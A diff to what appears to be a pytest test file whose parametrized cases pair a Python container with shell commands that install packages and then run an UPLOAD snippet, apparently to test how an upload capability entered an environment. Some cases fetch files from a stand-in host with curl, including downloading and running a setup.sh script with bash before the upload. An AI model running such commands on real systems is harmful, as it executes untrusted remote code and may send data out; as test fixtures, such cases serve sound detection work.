@@ -307,7 +307,11 @@ SETUP = "https://a.example/setup.sh"
 BROUGHT = [
     pytest.param("python:3.12", f'pip install -q huggingface_hub && python -c "{UPLOAD}"', id="installed"),
     pytest.param("python:3.12", f'pip install datasets; python -c "{UPLOAD}"', id="brought along"),
-    pytest.param("python:3.12", f'pip install -r requirements.txt; python -c "{UPLOAD}"', id="by a file"),
+    pytest.param(
+        "python:3.12",
+        f'curl -O https://a.example/all.txt; pip install -r all.txt; python -c "{UPLOAD}"',
+        id="by a file",
+    ),
     pytest.param("python:3.12", f'pip install tools-of-ours; python -c "{UPLOAD}"', id="perhaps brought along"),
     pytest.param("python:3.12", f'curl -O {SETUP}; bash setup.sh; python -c "{UPLOAD}"', id="perhaps by a script"),
     pytest.param("python:3.12", f'export PYTHONPATH=/mnt/lib; python -c "{UPLOAD}"', id="on another path"),
